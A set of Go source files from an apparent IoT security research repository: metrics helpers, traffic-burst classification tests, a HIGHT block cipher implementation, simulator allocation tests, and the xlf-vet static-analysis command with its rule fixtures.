		{Layer: Service, Name: "Security data analytics", CoreLinked: true},
	}
}
