// Package metrics provides the evaluation plumbing for the experiment
// suite: confusion matrices (precision/recall/F1), latency summaries with
// quantiles, and fixed-width table rendering for the table/figure
// reproductions printed by cmd/xlf-bench and the benchmarks.
package metrics

import (
	"fmt"
	"sort"
	"strings"
	"time"
)

// Confusion is a binary confusion matrix.
type Confusion struct {
	TP, FP, FN, TN int
}

// Add merges another matrix.
func (c *Confusion) Add(o Confusion) {
	c.TP += o.TP
	c.FP += o.FP
	c.FN += o.FN
	c.TN += o.TN
}

// Record scores one (predicted, actual) pair.
func (c *Confusion) Record(predicted, actual bool) {
	switch {
	case predicted && actual:
		c.TP++
	case predicted && !actual:
		c.FP++
	case !predicted && actual:
		c.FN++
	default:
		c.TN++
	}
}

// Precision is TP/(TP+FP); 1 when nothing was predicted positive.
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Recall is TP/(TP+FN); 1 when there were no positives to find.
func (c Confusion) Recall() float64 {
	if c.TP+c.FN == 0 {
		return 1
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// F1 is the harmonic mean of precision and recall.
func (c Confusion) F1() float64 {
	p, r := c.Precision(), c.Recall()
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// Accuracy is (TP+TN)/total; 0 for the empty matrix.
func (c Confusion) Accuracy() float64 {
	total := c.TP + c.FP + c.FN + c.TN
	if total == 0 {
		return 0
	}
	return float64(c.TP+c.TN) / float64(total)
}

// String renders the headline numbers.
func (c Confusion) String() string {
	return fmt.Sprintf("P=%.3f R=%.3f F1=%.3f (tp=%d fp=%d fn=%d tn=%d)",
		c.Precision(), c.Recall(), c.F1(), c.TP, c.FP, c.FN, c.TN)
}

// Latencies accumulates duration samples and reports quantiles.
type Latencies struct {
	samples []time.Duration
}

// Observe adds a sample.
func (l *Latencies) Observe(d time.Duration) { l.samples = append(l.samples, d) }

// Count returns the sample count.
func (l *Latencies) Count() int { return len(l.samples) }

// Mean returns the average (0 when empty).
func (l *Latencies) Mean() time.Duration {
	if len(l.samples) == 0 {
		return 0
	}
	var sum time.Duration
	for _, s := range l.samples {
		sum += s
	}
	return sum / time.Duration(len(l.samples))
}

// Quantile returns the q-quantile by linear interpolation between closest
// ranks (the R-7 / NumPy "linear" definition): position q*(n-1) in the
// sorted samples, interpolating between neighbours when it falls between
// two ranks. Out-of-range q clamps to the extremes (NaN behaves like 0),
// the empty summary reports 0, and a single sample is every quantile of
// itself.
func (l *Latencies) Quantile(q float64) time.Duration {
	n := len(l.samples)
	if n == 0 {
		return 0
	}
	sorted := append([]time.Duration(nil), l.samples...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	if !(q > 0) { // catches q <= 0 and NaN
		return sorted[0]
	}
	if q >= 1 {
		return sorted[n-1]
	}
	pos := q * float64(n-1)
	lo := int(pos)
	frac := pos - float64(lo)
	if frac == 0 || lo+1 >= n {
		return sorted[lo]
	}
	return sorted[lo] + time.Duration(frac*float64(sorted[lo+1]-sorted[lo]))
}

// String summarises mean/p50/p95/p99.
func (l *Latencies) String() string {
	return fmt.Sprintf("n=%d mean=%s p50=%s p95=%s p99=%s",
		l.Count(), l.Mean(), l.Quantile(0.5), l.Quantile(0.95), l.Quantile(0.99))
}

// Table renders fixed-width rows for the table reproductions.
type Table struct {
	Title   string
	Headers []string
	rows    [][]string
}

// NewTable creates a table with headers.
func NewTable(title string, headers ...string) *Table {
	return &Table{Title: title, Headers: headers}
}

// AddRow appends a row; cells beyond the header count are dropped, missing
// cells render empty.
func (t *Table) AddRow(cells ...string) {
	row := make([]string, len(t.Headers))
	for i := range row {
		if i < len(cells) {
			row[i] = cells[i]
		}
	}
	t.rows = append(t.rows, row)
}

// AddRowf formats each cell with %v.
func (t *Table) AddRowf(cells ...any) {
	s := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case float64:
			s[i] = fmt.Sprintf("%.3g", v)
		default:
			s[i] = fmt.Sprintf("%v", c)
		}
	}
	t.AddRow(s...)
}

// Rows returns the number of data rows.
func (t *Table) Rows() int { return len(t.rows) }

// String renders the table with aligned columns.
func (t *Table) String() string {
	widths := make([]int, len(t.Headers))
	for i, h := range t.Headers {
		widths[i] = len(h)
	}
	for _, r := range t.rows {
		for i, c := range r {
			if len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	if t.Title != "" {
		b.WriteString(t.Title)
		b.WriteByte('\n')
	}
	line := func(cells []string) {
		for i, c := range cells {
			fmt.Fprintf(&b, "%-*s", widths[i]+2, c)
		}
		b.WriteByte('\n')
	}
	line(t.Headers)
	sep := make([]string, len(t.Headers))
	for i := range sep {
		sep[i] = strings.Repeat("-", widths[i])
	}
	line(sep)
	for _, r := range t.rows {
		line(r)
	}
	return b.String()
}
