package behavior

import (
	"testing"
	"time"

	"xlf/internal/netsim"
)

func rec(t time.Duration, src netsim.Addr, size int) netsim.PacketRecord {
	return netsim.PacketRecord{Time: t, Src: src, Size: size}
}

func TestSegmentSplitsOnGap(t *testing.T) {
	recs := []netsim.PacketRecord{
		rec(0, "lan:bulb", 64),
		rec(100*time.Millisecond, "lan:bulb", 128),
		rec(200*time.Millisecond, "lan:bulb", 64),
		// 5s gap: new burst.
		rec(5200*time.Millisecond, "lan:bulb", 256),
		rec(5300*time.Millisecond, "lan:bulb", 256),
	}
	bursts := Segment(recs, time.Second)
	if len(bursts) != 2 {
		t.Fatalf("bursts = %d, want 2", len(bursts))
	}
	if len(bursts[0].Seq) != 3 || len(bursts[1].Seq) != 2 {
		t.Errorf("burst sizes = %d/%d", len(bursts[0].Seq), len(bursts[1].Seq))
	}
	if bursts[0].Start != 0 || bursts[0].End != 200*time.Millisecond {
		t.Errorf("burst 0 span = %s..%s", bursts[0].Start, bursts[0].End)
	}
}

func TestSegmentInterleavedDevices(t *testing.T) {
	recs := []netsim.PacketRecord{
		rec(0, "lan:a", 64),
		rec(50*time.Millisecond, "lan:b", 512),
		rec(100*time.Millisecond, "lan:a", 64),
		rec(150*time.Millisecond, "lan:b", 512),
	}
	bursts := Segment(recs, time.Second)
	if len(bursts) != 2 {
		t.Fatalf("bursts = %d, want 2 (one per device)", len(bursts))
	}
	for _, b := range bursts {
		if len(b.Seq) != 2 {
			t.Errorf("device %s burst len = %d, want 2", b.Device, len(b.Seq))
		}
	}
}

func TestSegmentEmpty(t *testing.T) {
	if got := Segment(nil, time.Second); len(got) != 0 {
		t.Errorf("empty capture produced %d bursts", len(got))
	}
}

func TestClassifyBurstsPipeline(t *testing.T) {
	// Fingerprints in quantized units: "on" is three small frames, and
	// "motion" is a pair of large ones.
	lib, err := NewLibrary([]Fingerprint{
		{Event: "on", Seq: []int{Quantize(64), Quantize(128), Quantize(64)}},
		{Event: "motion", Seq: []int{Quantize(1200), Quantize(1200)}},
	}, 1, false)
	if err != nil {
		t.Fatal(err)
	}
	recs := []netsim.PacketRecord{
		rec(0, "lan:bulb", 64),
		rec(100*time.Millisecond, "lan:bulb", 128),
		rec(200*time.Millisecond, "lan:bulb", 64),
		rec(10*time.Second, "lan:cam", 1200),
		rec(10100*time.Millisecond, "lan:cam", 1200),
		// Garbage burst that matches nothing.
		rec(20*time.Second, "lan:weird", 5000),
		rec(20100*time.Millisecond, "lan:weird", 5000),
		rec(20200*time.Millisecond, "lan:weird", 5000),
		rec(20300*time.Millisecond, "lan:weird", 5000),
		rec(20400*time.Millisecond, "lan:weird", 5000),
	}
	events := ClassifyBursts(Segment(recs, time.Second), lib)
	if len(events) != 3 {
		t.Fatalf("events = %d, want 3", len(events))
	}
	byDev := map[netsim.Addr]BurstEvent{}
	for _, e := range events {
		byDev[e.Device] = e
	}
	if e := byDev["lan:bulb"]; !e.OK || e.Event != "on" {
		t.Errorf("bulb burst = %+v", e)
	}
	if e := byDev["lan:cam"]; !e.OK || e.Event != "motion" {
		t.Errorf("cam burst = %+v", e)
	}
	if e := byDev["lan:weird"]; e.OK {
		t.Errorf("garbage burst classified: %+v", e)
	}
}
