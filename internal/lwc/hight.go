package lwc

import (
	"crypto/cipher"
	"math/bits"
)

// HIGHT (Hong et al., CHES 2006) is a 64-bit block cipher with a 128-bit
// key built as a byte-oriented generalized Feistel network, designed for
// low-resource devices such as RFID tags and sensor nodes; it is part of
// ISO/IEC 18033-3 and the Korean TTA standard.

type hight struct {
	wk [8]byte   // whitening keys
	sk [128]byte // round subkeys
}

var _ cipher.Block = (*hight)(nil)

// NewHIGHT returns the HIGHT block cipher for a 16-byte key.
func NewHIGHT(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "HIGHT", Len: len(key)}
	}
	// The specification prints keys as MK15..MK0, so the first byte of
	// the caller's key is MK15. Reverse into MK0-first indexing.
	var mk [16]byte
	for i := range mk {
		mk[i] = key[15-i]
	}
	var c hight
	// Whitening keys: WK0..3 = MK12..15, WK4..7 = MK0..3.
	for i := 0; i < 4; i++ {
		c.wk[i] = mk[i+12]
		c.wk[i+4] = mk[i]
	}
	// Delta constants from the degree-7 LFSR x^7 + x^3 + 1 with initial
	// state s6..s0 = 1011010.
	var s [134]byte
	init := [7]byte{0, 1, 0, 1, 1, 0, 1} // s0..s6
	copy(s[:], init[:])
	for i := 7; i < 134; i++ {
		s[i] = s[i-7] ^ s[i-4]
	}
	delta := func(i int) byte {
		var d byte
		for b := 0; b < 7; b++ {
			d |= s[i+b] << uint(b)
		}
		return d
	}
	// Subkeys.
	for i := 0; i < 8; i++ {
		for j := 0; j < 8; j++ {
			c.sk[16*i+j] = mk[(j-i+8)%8] + delta(16*i+j)
			c.sk[16*i+j+8] = mk[(j-i+8)%8+8] + delta(16*i+j+8)
		}
	}
	return &c, nil
}

func (c *hight) BlockSize() int { return 8 }

func hightF0(x byte) byte {
	return bits.RotateLeft8(x, 1) ^ bits.RotateLeft8(x, 2) ^ bits.RotateLeft8(x, 7)
}

func hightF1(x byte) byte {
	return bits.RotateLeft8(x, 3) ^ bits.RotateLeft8(x, 4) ^ bits.RotateLeft8(x, 6)
}

func (c *hight) Encrypt(dst, src []byte) {
	checkBlock("HIGHT", 8, dst, src)
	// The specification prints blocks as P7..P0 / C7..C0; src[0] is P7.
	var x [8]byte
	for i := range x {
		x[i] = src[7-i]
	}

	// Initial transformation.
	x[0] += c.wk[0]
	x[2] ^= c.wk[1]
	x[4] += c.wk[2]
	x[6] ^= c.wk[3]

	for r := 0; r < 32; r++ {
		sk := c.sk[4*r:]
		var y [8]byte
		y[1] = x[0]
		y[3] = x[2]
		y[5] = x[4]
		y[7] = x[6]
		y[0] = x[7] ^ (hightF0(x[6]) + sk[3])
		y[2] = x[1] + (hightF1(x[0]) ^ sk[0])
		y[4] = x[3] ^ (hightF0(x[2]) + sk[1])
		y[6] = x[5] + (hightF1(x[4]) ^ sk[2])
		x = y
	}

	// Undo the last rotation (the final round keeps byte positions) and
	// apply the final transformation.
	var u [8]byte
	u[0] = x[1]
	u[1] = x[2]
	u[2] = x[3]
	u[3] = x[4]
	u[4] = x[5]
	u[5] = x[6]
	u[6] = x[7]
	u[7] = x[0]

	u[0] += c.wk[4]
	u[2] ^= c.wk[5]
	u[4] += c.wk[6]
	u[6] ^= c.wk[7]
	for i := range u {
		dst[7-i] = u[i]
	}
}

func (c *hight) Decrypt(dst, src []byte) {
	checkBlock("HIGHT", 8, dst, src)
	var u [8]byte
	for i := range u {
		u[i] = src[7-i]
	}

	// Invert the final transformation.
	u[0] -= c.wk[4]
	u[2] ^= c.wk[5]
	u[4] -= c.wk[6]
	u[6] ^= c.wk[7]

	// Re-apply the rotation removed at the end of encryption.
	var x [8]byte
	x[1] = u[0]
	x[2] = u[1]
	x[3] = u[2]
	x[4] = u[3]
	x[5] = u[4]
	x[6] = u[5]
	x[7] = u[6]
	x[0] = u[7]

	for r := 31; r >= 0; r-- {
		sk := c.sk[4*r:]
		var y [8]byte
		y[0] = x[1]
		y[2] = x[3]
		y[4] = x[5]
		y[6] = x[7]
		y[7] = x[0] ^ (hightF0(y[6]) + sk[3])
		y[1] = x[2] - (hightF1(y[0]) ^ sk[0])
		y[3] = x[4] ^ (hightF0(y[2]) + sk[1])
		y[5] = x[6] - (hightF1(y[4]) ^ sk[2])
		x = y
	}

	// Invert the initial transformation.
	x[0] -= c.wk[0]
	x[2] ^= c.wk[1]
	x[4] -= c.wk[2]
	x[6] ^= c.wk[3]
	for i := range x {
		dst[7-i] = x[i]
	}
}
