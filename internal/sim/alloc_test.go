package sim

import (
	"testing"
	"time"
)

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestStepAllocFree is the dynamic half of the //xlf:hotpath contract
// on Kernel.Step: dispatching an already-queued event — including a
// ScheduleArg event, whose payload is boxed at schedule time — must not
// allocate. The queue is pre-filled so only the dispatch itself is
// measured.
func TestStepAllocFree(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	const runs = 200
	k := NewKernel(1)
	noop := func() {}
	noopArg := func(any) {}
	var payload int
	for i := 0; i < runs+2; i++ {
		k.Schedule(0, "noop", noop)
		k.ScheduleArg(0, "noop-arg", noopArg, &payload)
	}
	if n := testing.AllocsPerRun(runs, func() {
		if !k.Step() || !k.Step() {
			t.Fatal("queue drained early")
		}
	}); n != 0 {
		t.Errorf("Step allocates %.1f per dispatch pair, want 0", n)
	}
}

// BenchmarkKernelDispatch measures the full schedule→dispatch→recycle
// cycle on a warm kernel and must report 0 allocs/op: the event comes
// from the slot freelist, the wheel buckets and batch reuse their backing
// arrays, and the Handle is a value. scripts/bench-compare gates it
// against bench/seed.
func BenchmarkKernelDispatch(b *testing.B) {
	k := NewKernel(1)
	noopArg := func(any) {}
	var payload int
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		k.ScheduleArg(time.Duration(i%1000), "bench", noopArg, &payload)
		if !k.Step() {
			b.Fatal("queue drained early")
		}
	}
}
