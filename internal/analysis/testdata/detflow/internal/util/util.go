// Package util lives OUTSIDE the deterministic set: the determinism
// rule never looks at it, which is exactly the loophole detflow closes.
package util

import (
	"math/rand"
	"time"
)

// Stamp reaches the wall clock two calls deep.
func Stamp() int64 { return now().UnixNano() }

func now() time.Time { return time.Now() }

// Draw pulls from the global generator.
func Draw() int { return rand.Intn(6) }

// Clean is a pure helper; calling it from simulation code is fine.
func Clean(a, b int) int {
	if a > b {
		return a
	}
	return b
}

// WaivedNow is sanctioned measurement code: the waived primitive site
// produces no fact, so callers in deterministic packages stay quiet.
func WaivedNow() time.Time {
	return time.Now() //xlf:allow-wallclock benchmark timing helper
}
