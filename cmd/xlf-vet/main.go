// Command xlf-vet runs the repository's cross-layer static analysis: the
// XLF layer import DAG, the simulator determinism contract, lock-copy
// hygiene, error discipline in security-critical packages, the
// path-sensitive CFG rules — cryptomisuse (hardcoded/short/math-rand
// keys, constant or reused nonces, non-constant-time MAC compares),
// pairing (locks, trace regions and timers released on every path),
// deadstore and unreachable — the two taint dataflow rules,
// plaintextescape (device payloads must be sealed before reaching a
// network send) and secretleak (token/key material must not flow into
// logs, errors, or metrics labels) — and the concurrency-safety layer:
// lockorder (an interprocedural lock-acquisition graph whose cycles are
// potential deadlocks), goroleak (goroutines with no shutdown path,
// unbuffered sends no path receives, WaitGroup.Add racing Wait),
// atomicmix (fields accessed both atomically and plainly; sync values
// copied by value) and hotpathalloc (functions annotated //xlf:hotpath
// must not contain or call into allocating constructs). On top of the
// module-wide call graph sit the interprocedural determinism rules:
// detflow (wall-clock and global-rand reachability from deterministic
// packages through any depth of cross-package helpers), globalmut
// (writes to mutable package-level state reachable from shard-state
// packages) and maporder (map iteration order escaping into returns,
// sinks, or unsorted appends) — plus the ownership & shard-isolation
// family: shardescape (values from //xlf:owned constructors must stay
// confined to their declared domain — no package-level stores, go
// captures, channel sends, or returns past the holder set, tracked
// interprocedurally with witness chains), shardhandle
// (generation-checked tokens like sim.Handle must not cross goroutine
// or domain boundaries) and shardphase (//xlf:phase barrier
// discipline: only window-phase code crosses phases). See
// internal/analysis for the rules and DESIGN.md for the architecture
// table they enforce.
//
// Usage:
//
//	xlf-vet ./...                      # whole module (the CI gate)
//	xlf-vet ./internal/exp ./cmd/...   # specific packages
//	xlf-vet -json ./...                # machine-readable findings
//	xlf-vet -sarif ./...               # SARIF 2.1.0 (code-scanning upload)
//	xlf-vet -disable lockcheck ./...   # drop rules for one run
//	xlf-vet -only lockorder,goroleak ./...  # run only the named rules
//	xlf-vet -only shardsafe ./...      # family alias: shardescape,shardhandle,shardphase
//	xlf-vet -baseline vet.json ./...   # report only findings not in the baseline
//	xlf-vet -baseline vet.json -strict-baseline ./...  # stale waivers fail the run
//	xlf-vet -baseline vet.json -write-baseline ./...  # freeze current findings
//	xlf-vet -baseline vet.json -prune-baseline ./...  # drop stale waivers
//	xlf-vet -parallel 8 ./...          # per-package worker pool
//	xlf-vet -cache-dir .vetcache ./... # reuse results when the module is unchanged
//	xlf-vet -fix ./...                 # apply suggested edits for mechanical findings
//
// Findings are reported as "file:line: [rule] message" with paths
// relative to the module root; output is deterministic at any -parallel
// setting, cold or warm cache. Exit status: 0 when clean (or when every
// finding is suppressed by the baseline), 1 when findings were reported,
// 2 on usage or load errors.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"

	"xlf/internal/analysis"
)

func main() {
	os.Exit(run(os.Args[1:], os.Stdout, os.Stderr))
}

func run(args []string, stdout, stderr io.Writer) int {
	fs := flag.NewFlagSet("xlf-vet", flag.ContinueOnError)
	fs.SetOutput(stderr)
	var (
		jsonOut   = fs.Bool("json", false, "emit findings as JSON")
		sarifOut  = fs.Bool("sarif", false, "emit findings as SARIF 2.1.0")
		disable   = fs.String("disable", "", "comma-separated rules to skip (layercheck,determinism,detflow,lockcheck,errdrop,pairing,cryptomisuse,deadstore,unreachable,plaintextescape,secretleak,lockorder,goroleak,atomicmix,hotpathalloc,globalmut,maporder,shardescape,shardhandle,shardphase)")
		only      = fs.String("only", "", "comma-separated rules to run, dropping all others (same names as -disable; the family alias shardsafe expands to shardescape,shardhandle,shardphase)")
		root      = fs.String("root", "", "module root (default: nearest go.mod above the working directory)")
		baseline  = fs.String("baseline", "", "baseline file: suppress the findings recorded in it")
		writeBase = fs.Bool("write-baseline", false, "write current findings to the -baseline file and exit clean")
		pruneBase = fs.Bool("prune-baseline", false, "rewrite the -baseline file with stale waivers removed and exit clean")
		parallel  = fs.Int("parallel", runtime.NumCPU(), "package-level analysis workers")
		cacheDir  = fs.String("cache-dir", "", "directory for the per-package result cache (empty disables caching)")
		fix       = fs.Bool("fix", false, "apply suggested edits for mechanical findings")
		strict    = fs.Bool("strict-baseline", false, "fail (exit 1) when the -baseline file carries stale waivers; requires a full-module run with every rule enabled")
	)
	if err := fs.Parse(args); err != nil {
		return 2
	}
	if *jsonOut && *sarifOut {
		fmt.Fprintln(stderr, "xlf-vet: -json and -sarif are mutually exclusive")
		return 2
	}
	if *writeBase && *baseline == "" {
		fmt.Fprintln(stderr, "xlf-vet: -write-baseline requires -baseline <file>")
		return 2
	}
	if *pruneBase && *baseline == "" {
		fmt.Fprintln(stderr, "xlf-vet: -prune-baseline requires -baseline <file>")
		return 2
	}
	if *pruneBase && *writeBase {
		fmt.Fprintln(stderr, "xlf-vet: -prune-baseline and -write-baseline are mutually exclusive")
		return 2
	}
	if *strict && *baseline == "" {
		fmt.Fprintln(stderr, "xlf-vet: -strict-baseline requires -baseline <file>")
		return 2
	}

	moduleRoot := *root
	if moduleRoot == "" {
		var err error
		moduleRoot, err = findModuleRoot()
		if err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
	}
	allPkgs, err := analysis.LoadModule(moduleRoot)
	if err != nil {
		fmt.Fprintln(stderr, "xlf-vet:", err)
		return 2
	}

	if *only != "" && *disable != "" {
		fmt.Fprintln(stderr, "xlf-vet: -only and -disable are mutually exclusive")
		return 2
	}
	analyzers, err := selectAnalyzers(*disable, *only)
	if err != nil {
		fmt.Fprintln(stderr, "xlf-vet:", err)
		return 2
	}

	// Module-scoped analyzers (the taint rules) need the whole module to
	// compute cross-package function summaries, even when the command
	// line narrows the packages actually checked.
	analysis.Prepare(allPkgs, analyzers)

	pkgs, err := filterPackages(allPkgs, moduleRoot, fs.Args())
	if err != nil {
		fmt.Fprintln(stderr, "xlf-vet:", err)
		return 2
	}

	cache, err := openCache(*cacheDir, moduleRoot, allPkgs, analyzers)
	if err != nil {
		fmt.Fprintln(stderr, "xlf-vet:", err)
		return 2
	}
	findings := collectFindings(pkgs, analyzers, *parallel, cache, moduleRoot)

	if *writeBase {
		b := analysis.NewBaseline(findings)
		// Refreshing an existing baseline keeps the justifications its
		// surviving entries carry.
		if old, err := analysis.LoadBaseline(*baseline); err == nil {
			b.Merge(old)
		}
		if err := b.WriteFile(*baseline); err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
		fmt.Fprintf(stderr, "xlf-vet: wrote %d finding(s) to %s\n", len(findings), *baseline)
		return 0
	}
	// Stale-waiver detection and pruning only make sense against the
	// full finding set: a narrowed run misses findings in the packages
	// it skipped and would misreport their waivers as stale.
	fullRun := len(pkgs) == len(allPkgs) && len(analyzers) == len(analysis.XLFAnalyzers())
	if *pruneBase {
		if !fullRun {
			fmt.Fprintln(stderr, "xlf-vet: -prune-baseline requires a full-module run with every rule enabled")
			return 2
		}
		b, err := analysis.LoadBaseline(*baseline)
		if err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
		removed := b.Prune(findings)
		if err := b.WriteFile(*baseline); err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
		fmt.Fprintf(stderr, "xlf-vet: pruned %d stale waiver(s) from %s\n", removed, *baseline)
		return 0
	}
	suppressed := 0
	staleWaivers := 0
	if *baseline != "" {
		b, err := analysis.LoadBaseline(*baseline)
		if err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
		if *strict && !fullRun {
			// A narrowed run misses findings in skipped packages and would
			// misreport their waivers as stale — failing on that would be
			// noise, and passing would be false confidence.
			fmt.Fprintln(stderr, "xlf-vet: -strict-baseline requires a full-module run with every rule enabled")
			return 2
		}
		if fullRun {
			stale := b.Unmatched(findings)
			staleWaivers = len(stale)
			for _, s := range stale {
				fmt.Fprintf(stderr, "xlf-vet: stale baseline waiver (no finding matches): %s\n", s)
			}
		}
		findings, suppressed = b.Filter(findings)
	}

	if *fix {
		applied, err := applyFixes(moduleRoot, findings, stderr)
		if err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
		if applied > 0 && cache != nil {
			// The tree changed under the cache's context hash; entries for
			// the old hash are simply never read again.
			fmt.Fprintf(stderr, "xlf-vet: %d edit(s) applied; re-run to verify\n", applied)
		}
	}

	switch {
	case *sarifOut:
		if err := analysis.WriteSARIF(stdout, analyzers, findings); err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
	case *jsonOut:
		enc := json.NewEncoder(stdout)
		enc.SetIndent("", "  ")
		if findings == nil {
			findings = []analysis.Finding{}
		}
		if err := enc.Encode(findings); err != nil {
			fmt.Fprintln(stderr, "xlf-vet:", err)
			return 2
		}
	default:
		for _, f := range findings {
			fmt.Fprintln(stdout, f)
		}
	}
	if len(findings) > 0 {
		if suppressed > 0 {
			fmt.Fprintf(stderr, "xlf-vet: %d finding(s), %d suppressed by baseline\n", len(findings), suppressed)
		} else {
			fmt.Fprintf(stderr, "xlf-vet: %d finding(s)\n", len(findings))
		}
		return 1
	}
	if *strict && staleWaivers > 0 {
		fmt.Fprintf(stderr, "xlf-vet: %d stale baseline waiver(s); run -prune-baseline to remove them\n", staleWaivers)
		return 1
	}
	if suppressed > 0 {
		fmt.Fprintf(stderr, "xlf-vet: clean (%d finding(s) suppressed by baseline)\n", suppressed)
	}
	return 0
}

// collectFindings runs the analyzers over pkgs through the worker pool,
// consulting the per-package cache when enabled. Results are
// module-relative and fully sorted, so the output is byte-identical at
// any worker count with a cold or warm cache.
func collectFindings(pkgs []*analysis.Package, analyzers []analysis.Analyzer, workers int, cache *vetCache, root string) []analysis.Finding {
	if workers < 1 {
		workers = 1
	}
	results := make([][]analysis.Finding, len(pkgs))
	var misses []int
	for i, pkg := range pkgs {
		if cache == nil {
			misses = append(misses, i)
			continue
		}
		if cached, ok := cache.get(pkg.ImportPath); ok {
			results[i] = cached
			continue
		}
		misses = append(misses, i)
	}
	if len(misses) > 0 {
		jobs := make(chan int)
		var wg sync.WaitGroup
		if workers > len(misses) {
			workers = len(misses)
		}
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range jobs {
					fs := analysis.RunPackage(pkgs[i], analyzers)
					relativize(fs, root)
					analysis.SortFindings(fs)
					if cache != nil {
						cache.put(pkgs[i].ImportPath, fs)
					}
					results[i] = fs
				}
			}()
		}
		for _, i := range misses {
			jobs <- i
		}
		close(jobs)
		wg.Wait()
	}
	var out []analysis.Finding
	for _, fs := range results {
		out = append(out, fs...)
	}
	analysis.SortFindings(out)
	return out
}

// relativize rewrites finding paths relative to the module root, so
// output (and baselines) are stable across checkouts.
func relativize(findings []analysis.Finding, root string) {
	for i := range findings {
		if rel, err := filepath.Rel(root, findings[i].File); err == nil && !strings.HasPrefix(rel, "..") {
			findings[i].File = filepath.ToSlash(rel)
		}
	}
}

// findModuleRoot walks up from the working directory to the nearest
// go.mod.
func findModuleRoot() (string, error) {
	dir, err := os.Getwd()
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("no go.mod found above the working directory")
		}
		dir = parent
	}
}

// selectAnalyzers returns the configured rule set minus the disabled
// ones, or — when only is non-empty — just the named rules, in their
// canonical XLFAnalyzers order.
func selectAnalyzers(disable, only string) ([]analysis.Analyzer, error) {
	// Family aliases expand to their member rules in both -only and
	// -disable.
	families := map[string][]string{
		"shardsafe": {"shardescape", "shardhandle", "shardphase"},
	}
	ruleSet := func(csv string) map[string]bool {
		set := make(map[string]bool)
		for _, name := range strings.Split(csv, ",") {
			if name = strings.TrimSpace(name); name == "" {
				continue
			}
			if members, ok := families[name]; ok {
				for _, m := range members {
					set[m] = true
				}
				continue
			}
			set[name] = true
		}
		return set
	}
	if only != "" {
		wanted := ruleSet(only)
		var out []analysis.Analyzer
		for _, a := range analysis.XLFAnalyzers() {
			if wanted[a.Name()] {
				delete(wanted, a.Name())
				out = append(out, a)
			}
		}
		for name := range wanted {
			return nil, fmt.Errorf("unknown rule %q in -only", name)
		}
		return out, nil
	}
	disabled := ruleSet(disable)
	var out []analysis.Analyzer
	for _, a := range analysis.XLFAnalyzers() {
		if disabled[a.Name()] {
			delete(disabled, a.Name())
			continue
		}
		out = append(out, a)
	}
	for name := range disabled {
		return nil, fmt.Errorf("unknown rule %q in -disable", name)
	}
	return out, nil
}

// filterPackages keeps the packages matching the command-line patterns:
// "./..." (everything), "dir/..." (subtree) or plain directory paths,
// all relative to the module root. No patterns means everything.
func filterPackages(pkgs []*analysis.Package, root string, patterns []string) ([]*analysis.Package, error) {
	if len(patterns) == 0 {
		return pkgs, nil
	}
	matchers := make([]func(rel string) bool, len(patterns))
	for i, pat := range patterns {
		pat = filepath.ToSlash(filepath.Clean(pat))
		pat = strings.TrimPrefix(pat, "./")
		switch {
		case pat == "..." || pat == ".":
			matchers[i] = func(string) bool { return true }
		case strings.HasSuffix(pat, "/..."):
			prefix := strings.TrimSuffix(pat, "/...")
			matchers[i] = func(rel string) bool {
				return rel == prefix || strings.HasPrefix(rel, prefix+"/")
			}
		default:
			pat := pat
			matchers[i] = func(rel string) bool { return rel == pat }
		}
	}
	matched := make([]bool, len(patterns))
	var out []*analysis.Package
	for _, pkg := range pkgs {
		rel, err := filepath.Rel(root, pkg.Dir)
		if err != nil {
			return nil, err
		}
		rel = filepath.ToSlash(rel)
		keep := false
		for i, match := range matchers {
			if match(rel) {
				matched[i] = true
				keep = true
			}
		}
		if keep {
			out = append(out, pkg)
		}
	}
	for i, ok := range matched {
		if !ok {
			return nil, fmt.Errorf("pattern %q matched no packages", patterns[i])
		}
	}
	return out, nil
}
