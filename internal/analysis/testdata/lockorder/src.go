// Package lockfix exercises the lockorder rule: inconsistent pairwise
// orderings, self-deadlock, interprocedural edges through summaries,
// longer cycles, package-level mutexes, and the shapes that must stay
// quiet (branches, loops, consistent orderings, waived sites).
package lockfix

import "sync"

// --- Inconsistent two-lock ordering within one package.

type Reg struct{ Mu sync.Mutex }

type Conn struct{ Mu sync.Mutex }

func RegThenConn(r *Reg, c *Conn) {
	r.Mu.Lock()
	c.Mu.Lock() // want "inconsistent lock order: m\.Conn\.Mu acquired while holding m\.Reg\.Mu"
	c.Mu.Unlock()
	r.Mu.Unlock()
}

// --- Self-deadlock: re-acquiring a held, non-reentrant mutex.

type S struct{ mu sync.Mutex }

func relock(s *S) {
	s.mu.Lock()
	s.mu.Lock() // want "m\.S\.mu is acquired while already held .self-deadlock"
	s.mu.Unlock()
	s.mu.Unlock()
}

// --- Interprocedural: the edge flows through lockQ's summary.

type P struct{ mu sync.Mutex }

type Q struct{ mu sync.Mutex }

func lockQ(q *Q) {
	q.mu.Lock()
	q.mu.Unlock()
}

func pCallsQ(p *P, q *Q) {
	p.mu.Lock()
